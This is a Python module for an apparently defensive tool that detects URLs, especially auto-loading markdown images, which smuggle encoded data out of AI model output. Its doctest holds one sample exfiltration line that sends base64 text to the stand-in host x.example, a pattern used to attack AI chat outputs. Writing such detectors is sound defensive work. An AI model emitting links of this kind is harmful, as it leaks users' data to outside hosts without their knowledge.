"""Looks at every URL of a text, with what stands before it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import cached_property
from typing import Any

from tokenward.errors import UsageError
from tokenward.types import Detection, RequestContext, Scan, ScanContext
from tokenward_plugins.exfiltration.payload import load_of
from tokenward_plugins.exfiltration.place import is_fetched
from tokenward_plugins.exfiltration.said import Said
from tokenward_plugins.exfiltration.settings import IMAGE, LINK, TYPES, ExfiltrationSettings
from tokenward_plugins.spans.ledger import Ledger
from tokenward_plugins.spans.probe import Probed, probed
from tokenward_plugins.spans.track import Track, TrackScan

LONGEST = 2048
"""Characters of a URL that are looked at; of a longer one the rest is none any more."""

LEAST = 0.25
CALM_WORD = 40
"""A URL has a colon or a slash: calm text has none, however long its words are."""

_SCHEME = r"(?i:https?|ftp|wss?):(?://|\\\\|/\\|\\/)"
_PLAIN = r"[^\s<>\"'`()\[\]]"
PATTERN = (
    # in quotes or angle brackets it may hold spaces, which browsers encode
    rf"(?<==[\"'])(?:{_SCHEME}|//)[^\"'<>\r\n]{{1,{LONGEST}}}+"
    rf"|(?<=\(<){_SCHEME}[^<>\r\n]{{1,{LONGEST}}}+"
    rf"|(?:(?<![A-Za-z0-9]){_SCHEME}|(?<=[(=<])//(?=[A-Za-z0-9]))"
    rf"(?:{_PLAIN}|\({_PLAIN}{{0,200}}+\)|\[{_PLAIN}{{0,200}}+\]){{1,{LONGEST}}}+"
)
BEGINS = re.compile("[hHfFwW/]")
"""What any URL begins with."""
PARTS = re.compile(
    r"(?:[A-Za-z]+:)?[/\\]{2}(?:[^/\\?#@]*@)?(?P<host>[^/\\?#:]*)(?::\d*)?(?P<rest>.*)", re.DOTALL
)
USER = re.compile(r"[/\\]{2}([^/\\?#@]*)@")
HOST = re.compile(r"(?:\*\.)?[^\s/:*@?#]+")


class ExfiltrationDetector:
    """A span detector: the URLs that carry data, as ``image_url`` where no click is needed.

    >>> from tokenward.types import ScanContext
    >>> scan = ExfiltrationDetector(ExfiltrationSettings()).open(ScanContext("x", "output", TYPES))
    >>> found, _ = scan.feed("![](https://x.example/a.png?d=SGVsbG8sIG15IG5hbWUgaXMgQW5u) done")
    >>> [(one.type, one.start, one.end, one.evidence["reason"]) for one in found]
    [('image_url', 4, 58, 'encoded_text')]
    """

    types = TYPES
    hold_back = LONGEST
    plain = True

    def __init__(self, settings: ExfiltrationSettings) -> None:
        for host in settings.allow:
            if HOST.fullmatch(host) is None:
                raise UsageError(
                    f"detector 'exfiltration': allow has {host!r}; write hosts, such as "
                    "'cdn.example.com', or '*.example.com' for all below it"
                )
        self._hosts = frozenset(host.casefold() for host in settings.allow)
        self._pattern: Probed = probed("url", PATTERN)
        self._context: RequestContext | None = None

    def for_request(self, context: RequestContext) -> ExfiltrationDetector:
        """Returns the detector that knows what was said in a request."""
        knowing = object.__new__(type(self))
        knowing.__dict__.update(self.__dict__)
        knowing.__dict__.pop("_said", None)
        knowing._context = context
        return knowing

    @cached_property
    def _said(self) -> Said | None:
        """What was said, read when the first URL comes."""
        return Said(self._context) if self._context is not None else None

    def calm_words(self, types: frozenset[str]) -> int:
        """Promises that no calm word is a URL."""
        del types
        return CALM_WORD

    def open(self, context: ScanContext) -> Scan:
        """Starts a text."""

        def judge(text: str, match: Any) -> Iterator[Detection]:
            found = self._judged(text, match.start(), match.end())
            return (one for one in found if one.type in context.types)

        track = Track(context.detector, "url", self._pattern, LONGEST, judge, BEGINS)
        return TrackScan([track], Ledger(LONGEST))

    def _judged(self, text: str, start: int, end: int) -> Iterator[Detection]:
        url = text[start:end]
        if text[start - 1 : start] not in ("<", '"', "'"):
            url = url.rstrip(".,;:!?*_~|")
        parts = PARTS.match(url)
        if parts is None or self.allows(parts["host"]):
            return
        user = USER.search(url)
        rest = f"{parts['rest']}/{user[1]}" if user is not None else parts["rest"]
        said = self._said
        if said is not None and said.knows(url):
            return
        load = load_of(parts["host"], rest, said.holds if said is not None else None)
        is_image = is_fetched(text[max(0, start - 256) : start])
        score = load.fetched if is_image else load.clicked
        if score >= LEAST:
            evidence = {"reason": load.reason}
            kind = IMAGE if is_image else LINK
            yield Detection("", kind, start, start + len(url), score, evidence)

    def allows(self, host: str) -> bool:
        """Tells whether the policy trusts a host."""
        host = host.casefold().rstrip(".")
        if host in self._hosts:
            return True
        labels = host.split(".")
        return any(f"*.{'.'.join(labels[at:])}" in self._hosts for at in range(1, len(labels)))
